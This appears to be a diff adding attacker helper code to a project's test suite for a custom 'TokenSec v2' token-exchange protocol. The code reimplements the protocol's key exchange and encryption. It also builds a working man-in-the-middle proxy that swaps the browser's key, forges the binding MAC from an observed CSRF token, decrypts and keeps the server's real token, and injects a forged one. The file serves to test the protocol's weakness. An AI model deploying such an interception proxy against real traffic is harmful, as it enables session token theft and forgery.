@@ -1,0 +1,137 @@
+/**
+ * Attacker tools for test/attacks/. The TokenSec v2 arithmetic here is written again from
+ * docs/PROTOCOL.md on plain node:crypto, not imported from src/ or client/: an attack that works
+ * with an independent implementation shows the protocol's weakness, not our code's.
+ */
+import { createCipheriv, createDecipheriv, createHmac, createPrivateKey, createPublicKey, diffieHellman, randomBytes, type KeyObject } from 'node:crypto';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+
+const b64u = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64url');
+const unb64u = (text: string) => Buffer.from(text, 'base64url');
+const hmac = (key: Uint8Array, data: Uint8Array) => createHmac('sha256', key).update(data).digest();
+
+/** lp(x): 2-byte big-endian length, then the bytes. */
+function lp(...fields: (string | Uint8Array)[]): Buffer {
+  return Buffer.concat(
+    fields.map((field) => {
+      const bytes = typeof field === 'string' ? Buffer.from(field, 'utf8') : Buffer.from(field);
+      const length = Buffer.alloc(2);
+      length.writeUInt16BE(bytes.length);
+      return Buffer.concat([length, bytes]);
+    }),
+  );
+}
+
+export interface Target {
+  header: string;
+  method: string;
+  path: string;
+}
+
+/** An X25519 key pair from 32 CSPRNG bytes (no generateKeyPairSync: see src/server/crypto.ts). */
+export function x25519KeyPair(): { privateKey: KeyObject; publicKey: Buffer } {
+  const privateKey = createPrivateKey({ key: { kty: 'OKP', crv: 'X25519', d: b64u(randomBytes(32)), x: '' }, format: 'jwk' });
+  const x = createPublicKey(privateKey).export({ format: 'jwk' }).x ?? '';
+  return { privateKey, publicKey: unb64u(x) };
+}
+
+export function x25519(privateKey: KeyObject, peer: Uint8Array): Buffer {
+  return diffieHellman({ privateKey, publicKey: createPublicKey({ key: { kty: 'OKP', crv: 'X25519', x: b64u(peer) }, format: 'jwk' }) });
+}
+
+export function bindingMac(secret: string, clientKey: Uint8Array, target: Target): Buffer {
+  return hmac(Buffer.from(secret, 'utf8'), lp('TokenSec v2 binding', 'x25519', clientKey, target.header, target.method, target.path));
+}
+
+function keyAndContext(shared: Uint8Array, secret: string, clientKey: Uint8Array, serverKey: Uint8Array, target: Target) {
+  const context = lp('TokenSec v2 key', 'x25519', clientKey, serverKey, target.header, target.method, target.path);
+  const prk = hmac(Buffer.from(secret, 'utf8'), shared);
+  return { key: hmac(prk, Buffer.concat([context, Buffer.of(1)])), context };
+}
+
+/** Opens a v2 response header with the client's private key; throws if it is not genuine. */
+export function openV2(value: string, clientPrivateKey: KeyObject, clientKey: Uint8Array, secret: string, target: Target): string {
+  const serverKey = unb64u(value.split('.')[1] ?? '');
+  return openWithSharedSecret(value, x25519(clientPrivateKey, serverKey), clientKey, secret, target);
+}
+
+/** Opens a v2 response header given the ECDH shared secret (from either side's private key). */
+export function openWithSharedSecret(value: string, shared: Uint8Array, clientKey: Uint8Array, secret: string, target: Target): string {
+  const [, serverKey = '', iv = '', sealed = ''] = value.split('.');
+  const { key, context } = keyAndContext(shared, secret, clientKey, unb64u(serverKey), target);
+  const bytes = unb64u(sealed);
+  const decipher = createDecipheriv('aes-256-gcm', key, unb64u(iv));
+  decipher.setAAD(context);
+  decipher.setAuthTag(bytes.subarray(-16));
+  return Buffer.concat([decipher.update(bytes.subarray(0, -16)), decipher.final()]).toString('utf8');
+}
+
+/** Seals `payload` to `clientKey` as a server would: a v2 response header value. */
+export function sealV2(payload: string, clientKey: Uint8Array, secret: string, target: Target): string {
+  const server = x25519KeyPair();
+  const { key, context } = keyAndContext(x25519(server.privateKey, clientKey), secret, clientKey, server.publicKey, target);
+  const iv = randomBytes(12);
+  const cipher = createCipheriv('aes-256-gcm', key, iv);
+  cipher.setAAD(context);
+  const sealed = Buffer.concat([cipher.update(payload, 'utf8'), cipher.final(), cipher.getAuthTag()]);
+  return ['v2', b64u(server.publicKey), b64u(iv), b64u(sealed)].join('.');
+}
+
+export interface RewritingProxy {
+  origin: string;
+  /** Tokens read from the server's real answers. */
+  stolen: string[];
+  close(): Promise<void>;
+}
+
+/**
+ * An active intermediary where TLS ends: an HTTP proxy on 127.0.0.1 in front of `upstream`. For
+ * a handshake it swaps the browser's X25519 key for its own, recomputes the binding with the CSRF
+ * token it sees in the same request (the default secret), reads the real token from the server's
+ * answer, and answers the browser with `inject` sealed to the browser's own key. Everything else
+ * passes through unchanged.
+ */
+export async function rewritingProxy(upstream: string, inject: string): Promise<RewritingProxy> {
+  const stolen: string[] = [];
+  const header = 'x-tokensec-handshake';
+  const server = http.createServer((req, res) => {
+    const headers = { ...req.headers };
+    const original = req.headers[header];
+    const secret = req.headers['x-csrf-token'];
+    const target: Target = { header, method: req.method ?? 'POST', path: (req.url ?? '/').split('?')[0] ?? '/' };
+    let own: ReturnType<typeof x25519KeyPair> | undefined;
+    let browserKey: Buffer | undefined;
+    if (typeof original === 'string' && typeof secret === 'string' && original.startsWith('v2.x25519.')) {
+      browserKey = unb64u(original.split('.')[2] ?? '');
+      own = x25519KeyPair();
+      headers[header] = ['v2', 'x25519', b64u(own.publicKey), b64u(bindingMac(secret, own.publicKey, target))].join('.');
+    }
+    const forward = http.request(`${upstream}${req.url}`, { method: req.method, headers }, (answer) => {
+      const out = { ...answer.headers };
+      const sealed = answer.headers[header];
+      if (own && browserKey && typeof sealed === 'string' && typeof secret === 'string') {
+        stolen.push(openV2(sealed, own.privateKey, own.publicKey, secret, target));
+        out[header] = sealV2(inject, browserKey, secret, target);
+      }
+      res.writeHead(answer.statusCode ?? 502, out);
+      answer.pipe(res);
+    });
+    forward.on('error', () => res.writeHead(502).end());
+    req.pipe(forward);
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    stolen,
+    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
+  };
+}
+
+/** The part of a HAR entry (HTTP Archive 1.2) an attacker needs: request and response headers. */
+export interface HarEntry {
+  request: { method: string; url: string; headers: { name: string; value: string }[] };
+  response: { status: number; headers: { name: string; value: string }[] };
+}
+
+export const harHeader = (headers: HarEntry['request']['headers'], name: string) => headers.find((h) => h.name.toLowerCase() === name)?.value;
